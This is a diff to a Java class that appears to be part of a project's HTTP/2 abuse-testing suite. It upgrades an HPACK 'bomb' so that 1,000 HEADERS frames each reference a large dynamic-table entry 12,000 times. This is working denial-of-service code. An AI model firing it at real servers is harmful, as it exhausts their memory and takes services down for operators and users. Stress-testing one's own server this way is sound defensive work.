@@ -2,12 +2,14 @@ package io.sluice.attack;
 
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
+import java.util.Arrays;
 import java.util.List;
 
 /** Abuse of HTTP/2 (RFC 9113 section 10.5), in clear text with prior knowledge. */
 public final class Http2Attacks {
     private static final String CHEAP = "/v1/channels/attack";
     private static final int ROUNDS = 20_000;
+    private static final int BOMBS = 1_000;
     private static final int INITIAL_WINDOW_SIZE = 4;
 
     private Http2Attacks() {}
@@ -103,7 +105,7 @@ public final class Http2Attacks {
         }
     }
 
-    /** One large field in the dynamic table, referred to thousands of times: a small block that inflates to megabytes. */
+    /** One large field in the dynamic table, referred to thousands of times, again and again: small blocks that inflate to megabytes. */
     private static void hpackBomb(int port) throws IOException {
         try (var wire = new Wire(port)) {
             var block = new ByteArrayOutputStream();
@@ -115,13 +117,18 @@ public final class Http2Attacks {
             block.write(0xa2);
             block.write(0x1d);
             block.writeBytes("b".repeat(127 + 0x22 + (0x1d << 7)).getBytes(java.nio.charset.StandardCharsets.US_ASCII));
-            for (int i = 0; i < 12_000; i++) {
-                block.write(0xbe); // the newest entry of the dynamic table
+            var bomb = new byte[12_000];
+            Arrays.fill(bomb, (byte) 0xbe); // the newest entry of the dynamic table
+            block.writeBytes(bomb);
+            wire.send(new Frames().preface().take());
+            for (int i = 0; i < BOMBS; i++) {
+                wire.send(new Frames()
+                        .frame(Frames.HEADERS, Frames.END_STREAM | Frames.END_HEADERS, 2 * i + 1, block.toByteArray())
+                        .take());
+                block.reset();
+                block.writeBytes(Frames.request("GET", CHEAP));
+                block.writeBytes(bomb);
             }
-            wire.send(new Frames()
-                    .preface()
-                    .frame(Frames.HEADERS, Frames.END_STREAM | Frames.END_HEADERS, 1, block.toByteArray())
-                    .take());
             wire.awaitEnd();
         }
     }
